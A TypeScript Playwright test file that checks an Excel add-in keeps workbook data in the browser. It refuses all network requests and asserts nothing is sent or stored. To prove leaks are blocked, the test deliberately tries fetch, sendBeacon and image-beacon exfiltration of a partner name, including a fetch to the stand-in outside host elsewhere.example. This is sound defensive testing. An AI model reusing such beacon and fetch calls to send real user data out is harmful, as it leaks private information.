import type { FrameLocator, Page, Request } from "playwright-core";
import { eventually } from "../house/eventually";
import { tabTo } from "../workbench/keys";
import { whenReady, type Workbench } from "../workbench/openWorkbench";
import { answerWith, begin, openQuestionnaire, save } from "../workbench/paths/answering";
import { build, turnTo } from "../workbench/paths/moves";
import { address } from "./packed";

/** The add-in's own static files that are fetched when a person first gets to them; each by name alone, with nothing said. */
const fetchedLate = /^(parts\/[\w-]+\.[0-9a-f]{8}\.js|help\/functions\.json)$/;

/**
 * Refuses everything the add-in's page asks for from now on, own address and any other, but its own late files.
 *
 * @returns what was refused, and the late files, as they come
 */
async function refuseAll(page: Page): Promise<{ refused: string[]; late: string[] }> {
  const [refused, late]: string[][] = [[], []];
  const isExcels = (request: Request): boolean => request.frame() === page.mainFrame();
  await page.context().route("**/*", (route, request) => {
    if (isExcels(request)) return route.continue();
    const path = request.url().startsWith(address) ? request.url().slice(address.length) : "";
    if (request.method() === "GET" && fetchedLate.test(path)) {
      late!.push(path.replace(/\.[0-9a-f]{8}\./, "."));
      return route.continue();
    }
    refused!.push(`${request.method()} ${request.url()}`);
    return route.abort();
  });
  page.on("websocket", (socket) => refused!.push(`WebSocket ${socket.url()}`));
  return { refused: refused!, late: late! };
}

/** Tests that no answer, name or number of a workbook goes anywhere: what is refused here is never missed, because it is never asked for. */
export function nothingLeavesTests(opened: () => { page: Page; pane: FrameLocator; complaints: string[] }): void {
  const partner = "Star Alliance";

  test("nothing leaves the workbook: with every request refused, the pane reads, builds, asks, saves, explains and shares", async () => {
    const { page, pane, complaints } = opened();
    const saved = () =>
      page.evaluate(async () => {
        await window.workbench.workbook.settled();
        return window.workbench.workbook.save();
      });
    const bench: Workbench = { page, pane, complaints, saved, close: () => page.context().close() };
    await page.reload();
    await whenReady(page);
    const { refused, late } = await refuseAll(page);

    await turnTo(bench, "Build");
    const [sheet] = await build(bench, "Alliance scorecard", [partner]);
    expect(Object.values(sheet?.cells ?? {}).map(({ value }) => value)).toContain("Strategic alliance");

    await openQuestionnaire(bench);
    await tabTo(bench, "Alliance");
    await page.keyboard.type(partner);
    await begin(bench, "Alliance manager");
    await answerWith(bench, 1, 2);
    expect(await keptInBrowser(pane, partner)).toEqual(nothing); // though there is a draft, which the workbook keeps
    await save(bench, 2);

    await turnTo(bench, "Explain");
    await turnTo(bench, "Functions");
    await pane.getByText("=ALLIANCE.CLASSIFY(").first().waitFor();
    await turnTo(bench, "Share");
    await pane.getByRole("combobox", { name: "Which sheet" }).selectOption(sheet!.name);
    await pane.getByRole("button", { name: "Turn formulas into values" }).click();
    await pane
      .getByText(/ turned into values\.$/)
      .first()
      .waitFor();

    expect(refused).toEqual([]);
    expect(late).toEqual(expect.arrayContaining(["parts/questionnaire.js", "parts/share.js"]));
    expect(complaints).toEqual([]);
    expect(await keptInBrowser(pane, partner)).toEqual(nothing);

    // whatever might leave would have been seen: the same page tries it in every way there is
    await pane.locator("body").evaluate((_body, own) => {
      const quietly = (sending: Promise<unknown>) => void sending.catch(() => undefined);
      quietly(fetch(`${own}collect`, { method: "POST", body: "Star Alliance" }));
      quietly(fetch("https://elsewhere.example/collect?partner=Star"));
      navigator.sendBeacon(`${own}beacon`, "Star Alliance");
      new Image().src = `${own}assets/icon.png?partner=Star`;
    }, address);
    await eventually(() =>
      expect([...refused].sort()).toEqual([
        `GET ${address}assets/icon.png?partner=Star`,
        `POST ${address}beacon`,
        `POST ${address}collect`,
      ]),
    );
    // the page's policy does not even let it ask
    await eventually(() => expect(complaints.join("\n")).toContain("https://elsewhere.example/collect"));
  });
}

const nothing = { cookie: "", local: [], session: [], databases: [] };

/** What the add-in's page has left in the browser itself. Office.js keeps there, for the session, whom it talks to: no name of a partner. */
const keptInBrowser = (pane: FrameLocator, partner: string) =>
  pane.locator("body").evaluate(
    async (_body, name) => ({
      cookie: document.cookie,
      local: Object.keys(localStorage),
      session: Object.values(sessionStorage as Record<string, string>).filter((kept) => kept.includes(name)),
      databases: (await indexedDB.databases()).map((database) => database.name),
    }),
    partner,
  );
